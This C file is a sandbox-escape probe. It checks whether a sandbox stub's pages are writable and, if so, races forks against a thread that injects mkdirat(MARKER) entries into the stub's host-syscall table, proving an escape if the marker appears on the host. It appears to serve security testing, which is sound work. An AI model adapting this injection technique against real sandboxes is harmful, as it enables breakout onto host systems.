// stubpages: tries to make the sandbox's stub run host system calls of its
// choosing. The stub (the host process the program runs in) runs batches
// of host system calls from a table in its own pages while the program's
// other threads run; if the program could write that table, it could
// replace the calls.
//
//   stubpages MARKER
//
// For each page of the stub's region (the stub image, the set-up's scratch
// page, the table page) it checks whether a write there faults, and
// prints "PAGE ADDR writable" or "PAGE ADDR protected". If any is
// writable, one thread keeps writing tables of mkdirat(MARKER) into it
// while the main thread forks 200 times (each fork makes the stub run a
// batch for the parent): MARKER then appears on the host if the attack
// works. It prints "done" at the end.
#define _GNU_SOURCE
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define STUB_BASE 0x7ff000000000ULL
#define PAGES 3
#define ENTRY_WORDS 7
#define ENTRIES (4096 / (ENTRY_WORDS * 8))

static const char *marker;
static volatile int stop;
static volatile uint64_t *target;
static sigjmp_buf jb;

static void on_segv(int sig) {
	(void)sig;
	siglongjmp(jb, 1);
}

static int writable(volatile uint64_t *p) {
	struct sigaction sa, old;
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_segv;
	sigaction(SIGSEGV, &sa, &old);
	sigaction(SIGBUS, &sa, 0);
	volatile int ok = 0; // volatile: read after siglongjmp
	if (!sigsetjmp(jb, 1)) {
		uint64_t v = *p;
		*p = v;
		ok = 1;
	}
	sigaction(SIGSEGV, &old, 0);
	sigaction(SIGBUS, &old, 0);
	return ok;
}

static void *writer(void *arg) {
	(void)arg;
	while (!stop) {
		for (int e = 0; e < ENTRIES; e++) {
			volatile uint64_t *w = target + e * ENTRY_WORDS;
			w[0] = SYS_mkdirat;
			w[1] = (uint64_t)(int64_t)-100; // AT_FDCWD
			w[2] = (uint64_t)(uintptr_t)marker;
			w[3] = 0755;
			w[4] = w[5] = w[6] = 0;
		}
	}
	return 0;
}

int main(int argc, char **argv) {
	if (argc != 2) {
		fprintf(stderr, "usage: stubpages MARKER\n");
		return 2;
	}
	marker = argv[1];
	for (int i = 0; i < PAGES; i++) {
		volatile uint64_t *p = (volatile uint64_t *)(uintptr_t)(STUB_BASE + i * 4096ULL);
		int w = writable(p);
		printf("page %#llx %s\n", (unsigned long long)(uintptr_t)p, w ? "writable" : "protected");
		if (w && !target)
			target = p;
	}
	fflush(stdout);
	if (target) {
		// Private writable memory that each fork write-protects in the
		// parent, in one batch.
		static char heap[1 << 20];
		memset(heap, 1, sizeof heap);
		pthread_t t;
		if (pthread_create(&t, 0, writer, 0)) {
			perror("pthread_create");
			return 1;
		}
		for (int i = 0; i < 200; i++) {
			pid_t c = fork();
			if (c < 0) {
				perror("fork");
				return 1;
			}
			if (c == 0)
				_exit(0);
			waitpid(c, 0, 0);
			heap[i * 4096] = 2;
		}
		stop = 1;
		pthread_join(t, 0);
	}
	printf("done\n");
	return 0;
}
